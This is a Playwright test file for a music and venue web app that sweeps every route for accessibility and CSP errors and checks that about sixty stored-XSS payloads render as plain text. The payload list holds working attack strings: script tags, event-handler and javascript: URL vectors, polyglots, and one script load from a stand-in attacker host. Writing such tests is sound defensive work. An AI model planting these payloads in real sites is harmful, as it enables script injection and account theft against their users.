/**
 * The browser sweep: every route of the spec, signed out and signed in, at 1280 and 375 px — no serious or
 * critical axe violation, no console error, no CSP violation. Then stored XSS: payloads placed through the API
 * in every user-writable text (song title/artist/genre, venue name/location/description, playlist
 * name/description, chat, private messages, first/last names, a DJ Verse question) and the pages that show
 * them visited: no dialog, no script execution, no CSP violation, and the payloads visible as text.
 */
import crypto from 'node:crypto';
import type { APIRequestContext, BrowserContext, Page } from '@playwright/test';
import { test, expect, expectAccessible, newAccount, routeOutside, signInDemo, signUp, ownServer } from './fixtures';

/** Records CSP violations and any script that a payload manages to run (alert and friends, or the flag). */
const WATCH = `
  window.__csp = [];
  window.__pwned = [];
  document.addEventListener('securitypolicyviolation', function (e) {
    window.__csp.push(e.violatedDirective + ' ' + (e.blockedURI || '') + ' ' + (e.sample || ''));
  });
  ['alert', 'confirm', 'prompt'].forEach(function (name) {
    var original = window[name];
    window[name] = function () { window.__pwned.push(name + ':' + String(arguments[0])); return original.apply(window, arguments); };
  });
  Object.defineProperty(window, '__xss', { configurable: true, set: function (v) { window.__pwned.push('flag:' + v); }, get: function () { return undefined; } });
`;

interface Watch {
  console: string[];
  dialogs: string[];
}

/** Listens to the page: console errors, uncaught exceptions, dialogs (dismissed) and CSP reports in the console. */
function watch(page: Page): Watch {
  const w: Watch = { console: [], dialogs: [] };
  page.on('console', (m) => {
    // The one expected failure: a visitor's session probe, GET /api/auth/user, answers 401 by contract and
    // Chromium reports every 4xx resource in the console.
    if (/status of 401/.test(m.text()) && new URL(m.location().url || 'http://x/').pathname === '/api/auth/user')
      return;
    if (m.type() === 'error' || /Content[- ]Security[- ]Policy/i.test(m.text()))
      w.console.push(`${m.text()} (${m.location().url})`);
  });
  page.on('pageerror', (e) => w.console.push(`uncaught: ${e.message}`));
  page.on('dialog', (d) => {
    w.dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss().catch(() => {});
  });
  return w;
}

/** Waits until the page has fetched what it needs (polling pages never go fully idle, hence the cap). */
async function settle(page: Page) {
  await page.waitForLoadState('networkidle', { timeout: 8_000 }).catch(() => {});
  await page.waitForTimeout(300);
}

/** What the page did wrong, apart from axe: console errors, CSP violations, executed payloads, live handlers. */
async function pageProblems(page: Page, w: Watch): Promise<string[]> {
  const found = await page.evaluate(() => {
    const win = window as unknown as { __csp?: string[]; __pwned?: string[] };
    const handlers = [...document.querySelectorAll('*')].flatMap((el) =>
      [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName.toLowerCase()}[${a.name}]`),
    );
    const jsLinks = [...document.querySelectorAll('[href],[src],[action],[formaction]')]
      .map(
        (el) =>
          el.getAttribute('href') ??
          el.getAttribute('src') ??
          el.getAttribute('action') ??
          el.getAttribute('formaction') ??
          '',
      )
      .filter((v) => /^\s*(javascript|vbscript|data:text\/html)/i.test(v));
    return { csp: win.__csp ?? [], pwned: win.__pwned ?? [], handlers, jsLinks };
  });
  return [
    ...w.console.map((c) => `console: ${c}`),
    ...w.dialogs.map((d) => `dialog: ${d}`),
    ...found.csp.map((c) => `CSP violation: ${c}`),
    ...found.pwned.map((p) => `script ran: ${p}`),
    ...found.handlers.map((h) => `inline handler in the DOM: ${h}`),
    ...found.jsLinks.map((l) => `script URL in the DOM: ${l}`),
  ];
}

async function firstId(request: APIRequestContext, url: string): Promise<number> {
  const res = await request.get(url);
  expect(res.status()).toBe(200);
  return ((await res.json()) as Array<{ id: number }>)[0].id;
}

// The route passes and the stored-XSS test are independent and long: each is a unit of work of its own, so that both
// workers share them instead of one worker running the whole file at the end of the run. The XSS test is declared
// last, so no route pass starts after it on the same server (it fills the pages with its payloads).
test.describe.configure({ mode: 'parallel' });

test.describe('sweep: every route, signed out and signed in, desktop and mobile', () => {
  test.describe.configure({ timeout: 240_000 });

  const routes = async (request: APIRequestContext) => {
    const venueId = await firstId(request, '/api/venues');
    const playlistId = await firstId(request, '/api/community-playlists');
    return [
      '/',
      '/login',
      '/upload',
      '/venues',
      `/venue/${venueId}/mix`,
      '/messages',
      '/chat',
      '/ai',
      '/community-playlists',
      `/community-playlists/${playlistId}`,
      '/profile',
      '/search?q=love',
      '/no/such/page',
    ];
  };

  // Each pass in two halves of the route list (about a minute each on a quiet machine): eight units that the two
  // workers share evenly, each far from its timeout on a busy machine.
  const halves = [
    { name: 'first half of the routes', pick: (all: string[]) => all.slice(0, Math.ceil(all.length / 2)) },
    { name: 'second half of the routes', pick: (all: string[]) => all.slice(Math.ceil(all.length / 2)) },
  ];

  for (const signedIn of [false, true]) {
    for (const width of [1280, 375]) {
      for (const half of halves) {
        test(`${signedIn ? 'signed in' : 'signed out'} at ${width} px: ${half.name}`, async ({ page, context }) => {
          await context.addInitScript(WATCH);
          if (signedIn) await signInDemo(context);
          await page.setViewportSize({ width, height: width === 375 ? 812 : 900 });
          const w = watch(page);
          const failures: string[] = [];
          for (const path of half.pick(await routes(context.request))) {
            w.console.length = 0;
            w.dialogs.length = 0;
            const response = await page.goto(path);
            expect(response?.status(), path).toBe(200);
            // Messages sends a visitor to sign in half a second after saying so (spec section 8): check where they
            // land, not a page that is navigating away under the checks.
            if (!signedIn && path === '/messages') await page.waitForURL(/\/login/);
            await settle(page);
            await expect(page.locator('main').first()).toBeVisible();
            failures.push(...(await pageProblems(page, w)).map((p) => `${path}: ${p}`));
            try {
              await expectAccessible(page);
            } catch (err) {
              failures.push(
                `${path}: axe: ${
                  (err as Error).message
                    .split('\n')
                    .filter((l) => /^\s*[+-]\s+"/.test(l))
                    .join(' ') || (err as Error).message.slice(0, 500)
                }`,
              );
            }
          }
          expect(failures).toEqual([]);
        });
      }
    }
  }
});

// ── Stored XSS ──────────────────────────────────────────────────────────────────────────────────────────────

/** Sixty stored-XSS payloads: markup, attribute breakouts, script URLs, encodings, template and polyglot tricks. */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<script>window.__xss=1</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="window.__xss=2">',
  '"><svg onload=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:window.__xss=3',
  'data:text/html,<script>alert(1)</script>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href=javascript&colon;alert(1)>x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<form><button formaction=javascript:alert(1)>x</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<link rel=import href="data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">',
  '<base href="javascript:alert(1)//">',
  '"onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '" autofocus onfocus="window.__xss=4',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
  '<img src=1 onerror=alert`1`>',
  '<x onclick=alert(1)>click me',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '[click](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '<template><img src=x onerror=alert(1)></template>',
];

/** Groups payloads into strings of at most `max` characters, each opening with `tag` so that it can be found. */
function chunks(tag: string, max: number, list = PAYLOADS): string[] {
  const out: string[] = [];
  let current = tag;
  for (const p of list) {
    const piece = ` ${p}`;
    if (current.length + piece.length > max && current !== tag) {
      out.push(current);
      current = tag;
    }
    current += piece.length + current.length > max ? ` ${p.slice(0, max - current.length - 1)}` : piece;
  }
  if (current !== tag) out.push(current);
  return out;
}

const TAG = `Xq${crypto.randomBytes(2).toString('hex')}`;
const ytId = () => crypto.randomBytes(9).toString('base64url').slice(0, 11);
const at = <T>(list: T[], i: number) => list[i % list.length];

async function ok(res: Awaited<ReturnType<APIRequestContext['post']>>, status = 201): Promise<{ id: number }> {
  expect(res.status(), await res.text()).toBe(status);
  return (await res.json()) as { id: number };
}

test.describe('sweep: stored XSS renders as text everywhere', () => {
  test.describe.configure({ timeout: 300_000 });

  test('fifty-plus payloads in every user-writable text; the pages that show them run none of it', async ({
    browser,
    page,
    context,
  }) => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(50);
    // Names: 50 characters each, over four accounts (sign-ups are limited per network, so the shortest payloads go here).
    const short = [...PAYLOADS].sort((a, b) => a.length - b.length);
    const nameChunks = chunks('', 50, short.slice(0, 16)).map((c) => c.trim());
    const writers: Array<{ ctx: BrowserContext; id: string; first: string; last: string }> = [];
    for (let i = 0; i < 4; i++) {
      const ctx = await browser.newContext({ baseURL: ownServer() });
      await routeOutside(ctx);
      await ctx.addInitScript(WATCH);
      const first = at(nameChunks, i * 2);
      const last = at(nameChunks, i * 2 + 1);
      await signUp(ctx, { ...newAccount(), firstName: first, lastName: last });
      const me = await ok(await ctx.request.get('/api/auth/user'), 200);
      writers.push({ ctx, id: String(me.id), first, last });
    }
    const [a] = writers;
    const demoCtx = context;
    await signInDemo(demoCtx);
    const demo = { id: String((await ok(await demoCtx.request.get('/api/auth/user'), 200)).id) };

    // Venues: name (100), location (200), description (500).
    const venueNames = chunks(TAG, 100);
    const venueLocations = chunks(TAG, 200);
    const venueDescriptions = chunks(TAG, 500);
    const venueIds: number[] = [];
    for (let i = 0; i < venueNames.length; i++) {
      const v = await ok(
        await a.ctx.request.post('/api/venues', {
          data: {
            name: venueNames[i],
            location: at(venueLocations, i),
            description: at(venueDescriptions, i),
            type: 'bar',
          },
        }),
      );
      venueIds.push(v.id);
    }
    // Songs: title (200), artist (200), genre (50); split over two uploaders (30 uploads each per half hour).
    const genres = chunks(TAG, 50);
    const titles = chunks(TAG, 200);
    const artists = chunks(TAG, 200);
    const songIds: number[] = [];
    for (let i = 0; i < genres.length; i++) {
      const uploader = writers[i % 2];
      const song = await ok(
        await uploader.ctx.request.post('/api/songs', {
          multipart: {
            type: 'youtube',
            title: at(titles, i),
            artist: at(artists, i),
            genre: genres[i],
            youtubeUrl: `https://youtu.be/${ytId()}`,
            venueId: String(venueIds[i % 2]),
          },
        }),
      );
      songIds.push(song.id);
      // A vote puts it high in the mixes, so the first screens show it.
      await ok(await uploader.ctx.request.post('/api/votes', { data: { songId: song.id, voteType: 'up' } }), 200);
    }
    // Playlists: name (100), description (500); songs proposed to the first; the other writers join it.
    const playlistNames = chunks(TAG, 100);
    const playlistDescriptions = chunks(TAG, 500);
    const playlistIds: number[] = [];
    for (let i = 0; i < playlistNames.length; i++) {
      const p = await ok(
        await a.ctx.request.post('/api/community-playlists', {
          data: { name: playlistNames[i], description: at(playlistDescriptions, i) },
        }),
      );
      playlistIds.push(p.id);
    }
    for (const id of songIds.slice(0, 12))
      await ok(await a.ctx.request.post(`/api/community-playlists/${playlistIds[0]}/songs`, { data: { songId: id } }));
    for (const w of writers.slice(1))
      await ok(await w.ctx.request.post(`/api/community-playlists/${playlistIds[0]}/join`), 200);
    // Chat (global and the first venue), private messages to the demo user, DJ Verse questions.
    for (const [i, content] of chunks(TAG, 2000).entries()) {
      await ok(await at(writers, i).ctx.request.post('/api/messages/global', { data: { content } }));
      await ok(await at(writers, i).ctx.request.post(`/api/venues/${venueIds[0]}/messages`, { data: { content } }));
    }
    for (const w of writers)
      await ok(await w.ctx.request.post('/api/messages/global', { data: { content: `${TAG} hello from ${w.first}` } }));
    for (const content of chunks(TAG, 2000))
      await ok(await a.ctx.request.post('/api/messages', { data: { receiverId: demo.id, content } }));
    for (const w of writers.slice(1))
      await ok(
        await w.ctx.request.post('/api/messages', { data: { receiverId: demo.id, content: `${TAG} ${w.last}` } }),
      );
    for (const message of chunks(TAG, 1000))
      await ok(await a.ctx.request.post('/api/ai/chat', { data: { message } }), 200);

    // Visit every page that shows them, as their author and as the demo user who received messages.
    await demoCtx.addInitScript(WATCH);
    const aPage = await a.ctx.newPage();
    const visits: Array<{ page: Page; path: string; shows: string[] }> = [
      { page: aPage, path: '/', shows: [TAG] },
      { page: aPage, path: `/search?q=${TAG}`, shows: [TAG] },
      { page: aPage, path: '/venues', shows: [venueNames[0], venueNames[1]] },
      { page: aPage, path: `/venue/${venueIds[0]}/mix`, shows: [venueNames[0], titles[0]] },
      { page: aPage, path: `/venue/${venueIds[1]}/mix`, shows: [venueNames[1]] },
      { page: aPage, path: '/community-playlists', shows: [playlistNames[0], playlistNames[1]] },
      { page: aPage, path: `/community-playlists/${playlistIds[0]}`, shows: [playlistNames[0]] },
      { page: aPage, path: '/profile', shows: [a.first] },
      { page: aPage, path: '/chat', shows: [TAG, a.first] },
      { page: aPage, path: `/messages?with=${demo.id}`, shows: [TAG] },
      { page: aPage, path: '/ai', shows: [TAG] },
      { page, path: '/messages', shows: [a.first, writers[1].first] },
      { page, path: `/messages?with=${a.id}`, shows: [TAG] },
      { page, path: '/chat', shows: [TAG, writers[2].first] },
      { page, path: '/', shows: [TAG] },
    ];
    const watches = new Map<Page, Watch>([
      [aPage, watch(aPage)],
      [page, watch(page)],
    ]);
    // The detectors themselves: markup injected on purpose is caught (a CSP report and a handler in the DOM).
    await aPage.goto('/');
    await settle(aPage);
    await aPage.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.__xss=9">'));
    // Wait for the CSP report itself rather than a fixed time.
    await expect
      .poll(async () => (await pageProblems(aPage, watches.get(aPage)!)).some((p) => p.startsWith('CSP violation')))
      .toBe(true);
    const caught = await pageProblems(aPage, watches.get(aPage)!);
    expect(caught.some((p) => p.startsWith('CSP violation'))).toBe(true);
    expect(caught.some((p) => p.includes('img[onerror]'))).toBe(true);

    const failures: string[] = [];
    for (const v of visits) {
      const w = watches.get(v.page)!;
      w.console.length = 0;
      w.dialogs.length = 0;
      await v.page.goto(v.path);
      await settle(v.page);
      // The text appears as typed (collapsed whitespace aside), i.e. it was rendered as text, not parsed as markup.
      // A busy machine can still be fetching or rendering a list after `settle`: read the page until every text is
      // there or 15 s have passed, then report what is missing.
      const wanted = v.shows.map((s) => s.replace(/\s+/g, ' ').trim().slice(0, 40));
      const bodyText = async () => (await v.page.locator('body').innerText()).replace(/\s+/g, ' ');
      let text = await bodyText();
      for (const until = Date.now() + 15_000; !wanted.every((s) => text.includes(s)) && Date.now() < until;) {
        await v.page.waitForTimeout(250);
        text = await bodyText();
      }
      for (const s of v.shows) {
        if (!text.includes(s.replace(/\s+/g, ' ').trim().slice(0, 40)))
          failures.push(`${v.path}: does not show ${JSON.stringify(s.slice(0, 40))}`);
      }
      // Hover and focus what is on screen, to give mouse and focus handlers their chance.
      await v.page.mouse.move(200, 300);
      await v.page.keyboard.press('Tab');
      await v.page.waitForTimeout(150);
      failures.push(...(await pageProblems(v.page, w)).map((p) => `${v.path}: ${p}`));
    }
    expect(failures).toEqual([]);
    for (const w of writers) await w.ctx.close();
  });
});
